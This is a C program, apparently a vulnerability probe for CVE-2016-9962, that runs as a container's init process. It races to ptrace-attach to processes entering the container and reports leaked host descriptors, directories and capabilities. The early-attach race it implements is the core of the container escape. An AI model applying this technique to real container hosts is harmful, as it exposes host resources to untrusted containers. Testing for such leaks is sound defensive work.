/* The first process of a container, which attaches to every other one as early as it can
   (CVE-2016-9962): it asks for the number that comes next, and the last ones, until there is such a
   process.  SIGTERM makes it print what it has met: refused N  attempts on a process that was there
   and may not be traced early N    processes that were stopped before they executed a program of
   the image late N     processes that were stopped later held TEXT  what an early one had that it
   should not  */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

enum
{
  WINDOW = 8
};

static volatile sig_atomic_t ended;
static unsigned long refused, early, late;
static char own_capabilities[64];

static void note_end (int signal)
{
  (void)signal;
  ended = 1;
}

static void read_capabilities (const char *pid, char text[64])
{
  char path[64], line[256];

  text[0] = 0;
  snprintf (path, sizeof path, "/proc/%s/status", pid);
  FILE *file = fopen (path, "re");
  while (file != NULL && fgets (line, sizeof line, file) != NULL)
    if (strncmp (line, "CapPrm:", 7) == 0)
      snprintf (text, 64, "%.40s", line + 8);
  if (file != NULL)
    fclose (file);
}

static int read_link (pid_t pid, const char *name, char text[256])
{
  char path[300];

  snprintf (path, sizeof path, "/proc/%d/%s", (int)pid, name);
  ssize_t length = readlink (path, text, 255);
  text[length < 0 ? 0 : length] = 0;
  return length < 0 ? -1 : 0;
}

static int is_harmless (const char *target)
{
  return strncmp (target, "pipe:", 5) == 0 || strncmp (target, "socket:", 7) == 0
         || strcmp (target, "/dev/null") == 0 || strncmp (target, "/dev/pts/", 9) == 0;
}

static void inspect_descriptors (pid_t pid)
{
  char path[64], name[300], target[256];

  snprintf (path, sizeof path, "/proc/%d/fd", (int)pid);
  DIR *directory = opendir (path);
  for (struct dirent *entry; directory != NULL && (entry = readdir (directory)) != NULL;)
    {
      snprintf (name, sizeof name, "fd/%.200s", entry->d_name);
      if (read_link (pid, name, target) == 0 && !is_harmless (target))
        printf ("held descriptor %s: %s\n", entry->d_name, target);
    }
  if (directory != NULL)
    closedir (directory);
}

static void inspect_early (pid_t pid)
{
  char number[16], text[256], capabilities[64];

  snprintf (number, sizeof number, "%d", (int)pid);
  inspect_descriptors (pid);
  if (read_link (pid, "cwd", text) == 0 && strcmp (text, "/") != 0)
    printf ("held working directory %s\n", text);
  if (read_link (pid, "root", text) == 0 && strcmp (text, "/") != 0)
    printf ("held root %s\n", text);
  read_capabilities (number, capabilities);
  /* The program of another user has none.  */
  if (capabilities[0] != 0 && strcmp (capabilities, own_capabilities) != 0
      && strspn (capabilities, "0\n") != strlen (capabilities))
    printf ("held capabilities %s", capabilities);
}

/* Stopped: nothing of it changes while it is looked at.  */
static void inspect (pid_t pid)
{
  char exe[256];
  int status;

  if (ptrace (PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid (pid, &status, __WALL) < 0
      || !WIFSTOPPED (status))
    return;
  /* What the container may not even read the name of was executed by nobody of the image.  */
  if (read_link (pid, "exe", exe) < 0 || strncmp (exe, "/memfd:", 7) == 0)
    {
      early++;
      inspect_early (pid);
    }
  else
    late++;
  ptrace (PTRACE_DETACH, pid, 0, 0);
}

/* The number that was given out last in this pid namespace, the last field of /proc/loadavg.  */
static pid_t last_pid (int loadavg)
{
  char text[128];
  ssize_t length = pread (loadavg, text, sizeof text - 1, 0);

  text[length < 0 ? 0 : length] = 0;
  const char *at = strrchr (text, ' ');
  return at == NULL ? 1 : (pid_t)atoi (at);
}

static unsigned char is_done[1 << 22];

static void try_one (pid_t pid)
{
  if (is_done[pid])
    return;
  if (ptrace (PTRACE_SEIZE, pid, 0, 0) == 0)
    {
      is_done[pid] = 1;
      inspect (pid);
    }
  else if (errno == EPERM)
    refused++;
}

int main (void)
{
  struct sigaction action = { .sa_handler = note_end };
  int loadavg = open ("/proc/loadavg", O_RDONLY | O_CLOEXEC);

  setvbuf (stdout, NULL, _IOLBF, 0);
  sigaction (SIGTERM, &action, NULL);
  read_capabilities ("self", own_capabilities);
  printf ("ready\n");
  while (!ended)
    {
      pid_t last = last_pid (loadavg);
      for (pid_t pid = last > WINDOW ? last - WINDOW : 2; pid <= last + 1; pid++)
        try_one (pid);
    }
  printf ("refused %lu\nearly %lu\nlate %lu\n", refused, early, late);
  return 0;
}
